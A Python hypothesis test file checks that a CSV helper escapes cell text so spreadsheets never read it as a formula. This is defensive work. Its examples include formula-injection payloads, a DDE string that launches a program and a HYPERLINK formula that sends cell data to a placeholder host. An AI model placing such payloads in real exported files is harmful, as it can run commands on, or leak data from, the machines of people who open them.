"""What a spreadsheet makes of our .csv: text, never a formula."""

import csv
import io

from hypothesis import example, given
from hypothesis import strategies as st

from openmae.files.spreadsheets import cells


@given(st.text(alphabet="=+-@\t\r'a1.", max_size=5))
@example("=cmd|' /C calc'!A0")
@example('=HYPERLINK("http://x/?" & A1)')
@example("-2+3+cmd")
@example("'=1+1")
def test_no_text_is_a_formula_and_each_is_known_again(name: str) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerow(cells((name, 1.5)))
    (cell, number) = next(csv.reader(io.StringIO(text.getvalue(), newline="")))
    assert number == "1.5"
    if cell != name:
        assert cell == f"'{name}"
    elif cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(cell)  # or it would be a formula


@given(st.lists(st.text(alphabet="=+-@'a1", max_size=4), unique=True))
def test_different_texts_stay_different(names: list[str]) -> None:
    assert len(set(cells(names))) == len(names)


def test_numbers_and_what_is_missing_stay() -> None:
    assert cells((-1.5, "-1.5", "+3", None, True, "a=b")) == [-1.5, "-1.5", "+3", None, True, "a=b"]
